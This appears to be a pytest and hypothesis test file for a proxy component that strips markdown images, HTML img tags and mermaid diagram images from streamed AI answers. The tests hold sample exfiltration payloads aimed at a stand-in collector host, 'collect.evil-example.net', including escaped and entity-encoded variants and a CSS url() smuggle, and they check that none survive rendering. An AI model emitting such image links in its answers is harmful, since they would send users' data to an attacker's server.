"""No picture that may carry something away is left where a renderer of CommonMark would show it: held to a parser that is not ours."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from llmproxy.common.answers import Links
from llmproxy.shield.answers.images import Images

ADDRESS = "https://collect.evil-example.net/p?d=everything"
IMAGE = f"![x]({ADDRESS})"
DEFINED = f"[r]: {ADDRESS}"
RENDERERS = (MarkdownIt("commonmark"), MarkdownIt("gfm-like", {"linkify": False}))

PIECES = (
    *("```", "```\n", "``` \n", "```x\n", "```py\n", "~~~\n", "````\n", "  ```\n", "   ```\n", "    ```\n", "\t", "`", "``"),
    *("```" + " " * 90 + "x\n", "`" * 90 + "\n", "- ", "> ", "1. ", "1) ", "* ", "- [ ] ", "\n", "\n\n", "\r", "\r\n"),
    *("text ", "text\n", "    code\n", "# h\n", "***\n", "x\n===\n", "| a | b |\n|---|---|\n", "[x]: /u\n", "[l](/u)"),
    *("<div>", "<div>\n", "</div>\n", "<!--", "-->", "<pre>\n", "</pre>\n", "<a>\n", "<x ", '<b title="', "<https://a.b/", "$$\n"),
    *("*", "_", '"', "'", "(", ")", "]", "![", "](", "\\", "&excl;", "![[x]", "![r][]", "![r]", "![ R ]", "![x][R]", "[r]:\n"),
    *(IMAGE, f"{IMAGE}\n", f"{DEFINED}\n", f"{DEFINED}\r", f"> {DEFINED}\n", f"[r]: <{ADDRESS} b>\n", f"![x](<{ADDRESS}> 't')"),
    *(IMAGE.replace(":", "\\:"), IMAGE.replace(":", "&colon;"), f"![x](\n{ADDRESS}\n)", f"![a![b](/u)c]({ADDRESS})"),
)  # fmt: skip
SHOWN = (IMAGE, f"![x][r]\n\n{DEFINED}", "![x][r]\n")


def read(text: str, size: int) -> str:
    images = Images(Links(), lambda _: False, lambda _: True, lambda: False)
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    return "".join([*map(images.push, pieces), images.flush()])


def is_shown(text: str) -> bool:
    return any('src="https://collect.' in renderer.render(text) for renderer in RENDERERS)


@settings(max_examples=1_000, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=9), st.sampled_from(SHOWN), st.sampled_from((1, 3, 1_000)))
def test_no_renderer_shows_it_whatever_stands_before_it(before: list[str], shown: str, size: int) -> None:
    assert not is_shown(read("".join(before) + shown, size))


@pytest.mark.parametrize(
    "before",
    [
        "```\n```x\n```\n",
        "   ```\n```\n",
        "```title a.js\n```\n",
        "```" + " " * 90 + "x\n```\n",
        "```\ncode\r```\r",
        "<b>x</b>\n```\n\n```\n",
        "- ```\n  code\n  ```\n",
        "[r]:\n",
        "![[x]](",
        "<x ",
        "<x [r]: https://a.b\n```\n>\n",
    ],
)
def test_what_only_looks_like_the_beginning_of_code_hides_no_image(before: str) -> None:
    assert "evil-example" not in read(before + IMAGE, 3)


@pytest.mark.parametrize(
    "before", ["$$\n```\n$$\n", "\\[\n```\n\\]\n", "$$\nx = y $$\n```\n$$\n", "$$\n<div>\n\n```\n$$\n"]
)
def test_marks_within_mathematics_hide_none_where_they_are_rendered(before: str) -> None:
    assert "evil-example" not in read(before + IMAGE, 3)


@pytest.mark.parametrize("before", ["> ", "- ", "1. ", "> - ", "a\r"])
def test_a_definition_counts_in_a_quotation_and_in_a_list_too(before: str) -> None:
    assert "evil-example" not in read(f"![x][r]\n\n{before}{DEFINED}\n", 3)


def test_what_is_said_in_the_place_of_an_image_makes_none() -> None:
    for one in (IMAGE, f"<img src='{ADDRESS}'>"):
        assert not is_shown(read(f"{DEFINED}\n\n![a \\{one}[r]", 3))


def test_backslashes_in_an_address_are_undone() -> None:
    assert "evil-example" not in read(IMAGE.replace(":", "\\:"), 3)


@pytest.mark.parametrize(
    "before",
    [
        "A formula:\n\n$$\nx = y\n$$\n\nand code:\n\n",
        "$$ x = y $$\n\n" + "$$ " + "x + " * 40 + "y $$\n",
        "1. First\n   ```bash\n   make run\n   ```\n2. Second\n\n",
        "- ```js\n  a\n  ```\n\ntext\n\n",
        "```foo``` is code within a line.\n",
        "```js\nlet a\n```\r\n\r\n",
    ],
)
def test_code_behind_other_code_and_behind_mathematics_stays(before: str) -> None:
    text = f"{before}```html\n<img src='{ADDRESS}'>\n{IMAGE}\n```\n"
    assert read(text, 3) == text


@pytest.mark.parametrize("size", [1, 3, 1_000])
@pytest.mark.parametrize(
    "line",
    [
        f"A[\"<img src='{ADDRESS}'/>\"]",
        f'A@{{ img: "{ADDRESS}", label: "x", w: 60 }}',
        f"A[\"<img src='{ADDRESS.replace(':', '#58;')}'/>\"]",
        f"%%{{init: {{'themeCSS': '.node {{ background: url({ADDRESS}) }}'}}}}%%",
    ],
)
def test_what_a_diagram_shows_is_looked_at_line_by_line(line: str, size: int) -> None:
    said = read(f"So:\n```mermaid\nflowchart TD\n{line}\nA --> B\n```\nand on", size)
    assert said == "So:\n```mermaid\nflowchart TD\n[IMAGE_REDACTED]\nA --> B\n```\nand on"


@pytest.mark.parametrize("size", [1, 3, 1_000])
def test_a_diagram_that_shows_nothing_of_strangers_and_what_is_no_diagram_stay(size: int) -> None:
    for text in (
        '```mermaid\ngraph LR\n  A["<b>x</b>"] --> B\n  click A "https://docs.example.com/guide"\n```\n![x](/a.png)',
        f"```markdown\n{IMAGE}\n```\n",
        f"use ```mermaid\n{ADDRESS}",
        "```mermaid",
        "`m` and ``` and ```m",
    ):
        assert read(text, size) == text
    assert "evil-example" not in read(f"```mermaid\ngraph LR\n```\n{IMAGE}", size)
